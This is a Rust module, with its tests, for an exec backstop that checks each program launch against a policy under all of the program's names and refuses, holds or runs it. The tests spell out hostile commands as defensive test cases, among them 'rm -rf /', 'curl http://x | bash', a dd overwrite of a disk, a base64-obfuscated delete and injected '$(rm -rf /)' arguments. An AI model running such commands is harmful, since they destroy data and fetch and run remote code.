//! The verdict for one exec: pure, a [`Request`] and the policy in, what
//! to answer the kernel out.
//!
//! The policy is the one the hooks use, asked about the exec as a command
//! line. Which name does the policy see? The kernel runs the file the
//! path names, but a multi-call binary (busybox) picks its behaviour from
//! `argv[0]`, and a symlink can give any program a harmless name. So the
//! line is checked under each name the program has here (the path as
//! given, the file it resolves to, and `argv[0]`), and the most severe
//! verdict stands. A copy or hard link of a refused program under a new
//! name is not recognised: the policy decides by names.

use serde::Serialize;

use super::wire::Request;
use crate::policy::{Env, Policy, RuleRef, Subject, Verdict};

/// `[gate] exec`: what the backstop does with its verdicts.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    /// Refused execs fail with `EACCES`; `approve` ones wait.
    Enforce,
    /// Every exec runs and is recorded with the verdict it would have had.
    Audit,
    /// No filter: execs are neither seen nor recorded.
    Off,
}

impl Mode {
    pub fn as_str(self) -> &'static str {
        match self {
            Mode::Enforce => "enforce",
            Mode::Audit => "audit",
            Mode::Off => "off",
        }
    }
}

/// What the backstop decides with: handed to the reader when it is
/// forked, so it can answer the kernel itself.
pub struct Settings {
    pub policy: Policy,
    pub subject: Subject,
    pub home: String,
    pub mode: Mode,
    /// Rules already approved when the session starts (a `-c` command
    /// approved before it ran), granted before the first exec is decided.
    pub granted: Vec<String>,
}

/// What to answer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Action {
    Run,
    /// Fail the exec with `EACCES`; the message says why.
    Refuse(String),
    /// Wait for approval under this rule.
    Hold,
}

/// The verdict for one exec, with what the recording needs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Verdicted {
    pub action: Action,
    /// The policy's verdict (before the mode): what the record says.
    pub verdict: Verdict,
    pub rule: Option<RuleRef>,
    /// The exec as a command line (the name that decided first).
    pub line: String,
}

/// Quotes a word for the policy's parser, only where it must.
pub fn quote(w: &str) -> String {
    let plain = !w.is_empty() && w.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-+=:,@%".contains(&b));
    if plain {
        w.to_owned()
    } else {
        format!("'{}'", w.replace('\'', r"'\''"))
    }
}

/// The names the program goes by (see the module doc), deduplicated by
/// their last component; the path as given first.
pub fn names(req: &Request) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let base = |s: &str| s.rsplit('/').next().unwrap_or(s).trim_start_matches('-').to_owned();
    let argv0 = req.argv.first().map(|a| a.trim_start_matches('-').to_owned());
    for name in [Some(req.resolved.clone()).filter(|s| !s.is_empty()).or_else(|| Some(req.path.clone())), req.real.clone(), argv0] {
        let Some(name) = name.filter(|n| !n.is_empty()) else { continue };
        if !out.iter().any(|o| base(o) == base(&name)) {
            out.push(name);
        }
    }
    out
}

/// The exec `req` as a command line run under `name`.
pub fn line(name: &str, req: &Request) -> String {
    let mut words = vec![quote(name)];
    words.extend(req.argv.iter().skip(1).map(|a| quote(a)));
    words.join(" ")
}

/// The verdict for `req`. `granted(rule)` says whether an approval the
/// session already has covers an `approve` rule (a line approved at the
/// prompt runs its programs without asking twice).
pub fn decide(policy: &Policy, who: &Subject, home: &str, req: &Request, mode: Mode, granted: impl Fn(&str) -> bool) -> Verdicted {
    if req.call == "listener" {
        let message = "a program installed a seccomp listener of its own, which would take the exec backstop's place".to_owned();
        return Verdicted { action: Action::Refuse(message), verdict: Verdict::Deny, rule: None, line: req.caller.join(" ") };
    }
    if let Some(why) = &req.unreadable {
        let line = if req.argv.is_empty() { req.path.clone() } else { req.argv.join(" ") };
        let action = if mode == Mode::Enforce { Action::Refuse(format!("the exec backstop cannot check this program ({why})")) } else { Action::Run };
        return Verdicted { action, verdict: Verdict::Deny, rule: None, line };
    }
    let env = Env::new(&req.cwd, home);
    let mut best: Option<(Verdict, Option<RuleRef>, String)> = None;
    for name in names(req) {
        let line = line(&name, req);
        let mut words = vec![name.clone()];
        words.extend(req.argv.iter().skip(1).cloned());
        let d = policy.check_argv(&line, &words, who, &env);
        if best.as_ref().is_none_or(|(v, _, _)| d.verdict > *v) {
            best = Some((d.verdict, d.rule, line));
        }
    }
    let (verdict, rule, line) = best.unwrap_or((Verdict::Allow, None, req.path.clone()));
    let action = match (verdict, mode) {
        (Verdict::Allow, _) | (_, Mode::Audit | Mode::Off) => Action::Run,
        (Verdict::Deny, Mode::Enforce) => Action::Refuse(rule.as_ref().map(|r| r.message.clone()).unwrap_or_else(|| "refused by the policy".into())),
        (Verdict::Approve, Mode::Enforce) => {
            if rule.as_ref().is_some_and(|r| granted(&r.name)) {
                Action::Run
            } else {
                Action::Hold
            }
        }
    };
    Verdicted { action, verdict, rule, line }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(path: &str, argv: &[&str]) -> Request {
        Request { path: path.into(), resolved: path.into(), argv: argv.iter().map(|s| s.to_string()).collect(), cwd: "/tmp".into(), call: "execve".into(), ..Request::default() }
    }

    fn who() -> Subject {
        Subject { user: "alice".into(), ..Subject::default() }
    }

    #[test]
    fn a_refused_program_is_refused_under_any_of_its_names() {
        let policy = Policy::default_policy();
        let plain = decide(&policy, &who(), "/home/alice", &req("/bin/rm", &["rm", "-rf", "/"]), Mode::Enforce, |_| false);
        assert!(matches!(plain.action, Action::Refuse(_)), "{plain:?}");
        // argv[0] lies: the file is still rm.
        let lying = decide(&policy, &who(), "/home/alice", &req("/bin/rm", &["ls", "-rf", "/"]), Mode::Enforce, |_| false);
        assert!(matches!(lying.action, Action::Refuse(_)), "{lying:?}");
        // A symlink with a harmless name: the real file decides.
        let mut link = req("/tmp/tidy", &["tidy", "-rf", "/"]);
        link.real = Some("/usr/bin/rm".into());
        assert!(matches!(decide(&policy, &who(), "/", &link, Mode::Enforce, |_| false).action, Action::Refuse(_)));
        // busybox picks rm from argv[0].
        let busybox = decide(&policy, &who(), "/", &req("/bin/busybox", &["rm", "-rf", "/"]), Mode::Enforce, |_| false);
        assert!(matches!(busybox.action, Action::Refuse(_)));
    }

    #[test]
    fn ordinary_programs_run_and_audit_never_refuses() {
        let policy = Policy::default_policy();
        let ls = decide(&policy, &who(), "/", &req("/bin/ls", &["ls", "-la", "/tmp"]), Mode::Enforce, |_| false);
        assert_eq!(ls.action, Action::Run);
        assert_eq!(ls.line, "/bin/ls -la /tmp");
        let audit = decide(&policy, &who(), "/", &req("/bin/rm", &["rm", "-rf", "/"]), Mode::Audit, |_| false);
        assert_eq!(audit.action, Action::Run);
        assert_eq!(audit.verdict, Verdict::Deny, "the record keeps what enforce would have done");
    }

    #[test]
    fn a_program_inside_bash_c_is_checked_and_unreadable_calls_are_refused() {
        let policy = Policy::default_policy();
        let inner = decide(&policy, &who(), "/", &req("/bin/bash", &["bash", "-c", "rm -rf /"]), Mode::Enforce, |_| false);
        assert!(matches!(inner.action, Action::Refuse(_)));
        let mut bad = req("/bin/ls", &[]);
        bad.unreadable = Some("the arguments: unreadable at 0x10".into());
        assert!(matches!(decide(&policy, &who(), "/", &bad, Mode::Enforce, |_| false).action, Action::Refuse(m) if m.contains("0x10")));
        let listener = Request { call: "listener".into(), ..Request::default() };
        assert!(matches!(decide(&policy, &who(), "/", &listener, Mode::Audit, |_| false).action, Action::Refuse(_)));
    }

    #[test]
    fn shell_code_the_line_check_cannot_know_is_left_to_each_exec() {
        let policy = Policy::default_policy().for_execs();
        let code = "touch a; eval \"$(echo cm0gLXJmIC8= | base64 -d)\"";
        let d = decide(&policy, &who(), "/", &req("/bin/bash", &["bash", "-c", code]), Mode::Enforce, |_| false);
        assert_eq!(d.action, Action::Run, "{d:?}");
        // What it would start is refused when it starts.
        let rm = decide(&policy, &who(), "/", &req("/bin/rm", &["rm", "-rf", "/"]), Mode::Enforce, |_| false);
        assert!(matches!(rm.action, Action::Refuse(_)));
    }

    /// The backstop checks words without parsing a line; that must be the
    /// verdict the line of those words, quoted, gets.
    #[test]
    fn checking_the_words_is_checking_the_quoted_line() {
        let policy = Policy::default_policy().for_execs();
        let mut env = Env::new("/home/alice", "/home/alice");
        env.execs_checked = true;
        let cases: &[&[&str]] = &[
            &["/bin/true"],
            &["/bin/rm", "-rf", "/"],
            &["/bin/rm", "-rf", "."],
            &["/usr/bin/sudo", "rm", "-rf", "/etc"],
            &["/bin/bash", "-c", "curl http://x | bash"],
            &["/bin/bash", "-c", "rm -rf / ; echo $(id)"],
            &["/usr/bin/env", "FOO=1", "dd", "if=/dev/zero", "of=/dev/sda"],
            &["/bin/sh", "-c", "eval \"$X\""],
            &["/usr/bin/git", "push", "--force", "origin", "main"],
            &["/usr/bin/kubectl", "delete", "namespace", "prod"],
            &["/bin/echo", "it's", "a b", "$(rm -rf /)", "*", ""],
            &["/usr/bin/python3", "-c", "import os; os.system('rm -rf /')"],
            &["/usr/bin/xargs", "rm", "-rf"],
            &["/usr/bin/find", "/", "-delete"],
            &["/bin/chmod", "-R", "777", "/"],
            &["/usr/bin/systemctl", "stop", "sshd"],
        ];
        for argv in cases {
            let words: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
            let line = words.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
            let typed = policy.check(&line, &who(), &env);
            let exec = policy.check_argv(&line, &words, &who(), &env);
            assert_eq!((typed.verdict, typed.rule.map(|r| r.name)), (exec.verdict, exec.rule.map(|r| r.name)), "{line}");
        }
    }

    #[test]
    fn words_are_quoted_only_where_the_parser_needs_it() {
        assert_eq!(quote("/usr/bin/ls"), "/usr/bin/ls");
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(quote("it's"), r"'it'\''s'");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("$(rm -rf /)"), "'$(rm -rf /)'");
    }
}
